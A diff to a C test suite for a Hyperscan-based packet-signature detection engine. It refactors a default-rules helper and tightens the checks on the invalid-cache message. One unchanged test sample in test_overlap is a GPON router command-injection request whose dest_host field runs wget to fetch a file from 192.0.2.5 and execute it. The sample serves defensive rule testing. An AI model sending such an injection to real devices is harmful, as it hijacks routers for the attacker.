@@ -149,6 +149,23 @@ find_idx(const struct dc_sig_db *db, uint32_t id)
 	return -1;
 }
 
+/* The default rules (in the layout of g_flags) and a scratch; NULL (a failed
+ * check, nothing left allocated) when they cannot be had. */
+static struct dc_sig_scratch *
+default_db(struct dc_sig_db **db)
+{
+	struct dc_sig_scratch *s;
+
+	*db = load1(g_default, NULL);
+	s = *db ? dc_sig_scratch_new(*db) : NULL;
+	CHECK(s != NULL);
+	if (s == NULL) {
+		dc_sig_free(*db);
+		*db = NULL;
+	}
+	return s;
+}
+
 /* Scan and return the matched rule ids, sorted, in @p ids; the count. */
 static unsigned
 scan_ids(const struct dc_sig_db *db, struct dc_sig_scratch *s, uint8_t proto, uint16_t port,
@@ -647,10 +664,9 @@ test_default_samples(void)
 static void
 test_default_decoys(void)
 {
-	struct dc_sig_db *db = load1(g_default, NULL);
-	struct dc_sig_scratch *s = db ? dc_sig_scratch_new(db) : NULL;
+	struct dc_sig_db *db;
+	struct dc_sig_scratch *s = default_db(&db);
 
-	CHECK(s != NULL);
 	if (s == NULL)
 		return;
 	for (size_t i = 0; i < NELEM(decoys); i++) {
@@ -700,11 +716,10 @@ test_default_decoys(void)
 static void
 test_ntp_first_byte(void)
 {
-	struct dc_sig_db *db = load1(g_default, NULL);
-	struct dc_sig_scratch *s = db ? dc_sig_scratch_new(db) : NULL;
+	struct dc_sig_db *db;
+	struct dc_sig_scratch *s = default_db(&db);
 	int i_mon = db ? find_idx(db, 1004) : -1, i_cli = db ? find_idx(db, 1005) : -1;
 
-	CHECK(s != NULL);
 	if (s == NULL)
 		return;
 	for (unsigned b = 0; b < 256; b++) {
@@ -742,23 +757,6 @@ test_ntp_first_byte(void)
 	}
 	dc_sig_scratch_free(s);
 	dc_sig_free(db);
-}
-
-/* The default rules (in the layout of g_flags) and a scratch; NULL (a failed
- * check, nothing left allocated) when they cannot be had. */
-static struct dc_sig_scratch *
-default_db(struct dc_sig_db **db)
-{
-	struct dc_sig_scratch *s;
-
-	*db = load1(g_default, NULL);
-	s = *db ? dc_sig_scratch_new(*db) : NULL;
-	CHECK(s != NULL);
-	if (s == NULL) {
-		dc_sig_free(*db);
-		*db = NULL;
-	}
-	return s;
 }
 
 /* Random payloads: nothing but what the NTP client predicate (checked above) allows. */
@@ -804,12 +802,11 @@ test_overlap(void)
 		"POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\n"
 		"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;"
 		"wget+http://192.0.2.5/m+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0";
-	struct dc_sig_db *db = load1(g_default, NULL);
-	struct dc_sig_scratch *s = db ? dc_sig_scratch_new(db) : NULL;
+	struct dc_sig_db *db;
+	struct dc_sig_scratch *s = default_db(&db);
 	uint32_t ids[DC_SIG_PKT_MATCHES];
 	unsigned n;
 
-	CHECK(s != NULL);
 	if (s == NULL)
 		return;
 	n = scan_ids(db, s, 6, 80, BYTES(both), ids);
@@ -1784,8 +1781,11 @@ test_cache(void)
 		db = load1(g_default, dir);
 		CHECK(db != NULL && dc_sig_from_cache(db) == 0 && dc_sig_cache_note(db) != NULL);
 		if (db != NULL && dc_sig_cache_note(db) != NULL) {
-			snprintf(want, sizeof(want), "cache %s invalid (", file);
+			/* refused by Hyperscan itself, at the first database (not
+			 * as a short file: the header's count is left as written) */
+			snprintf(want, sizeof(want), "cache %s invalid (database 1 of ", file);
 			CHECK(strncmp(dc_sig_cache_note(db), want, strlen(want)) == 0);
+			CHECK(strstr(dc_sig_cache_note(db), ": hs_") != NULL);
 			printf("  garbage cache: %s\n", dc_sig_cache_note(db));
 			CHECK(works(db));
 		}
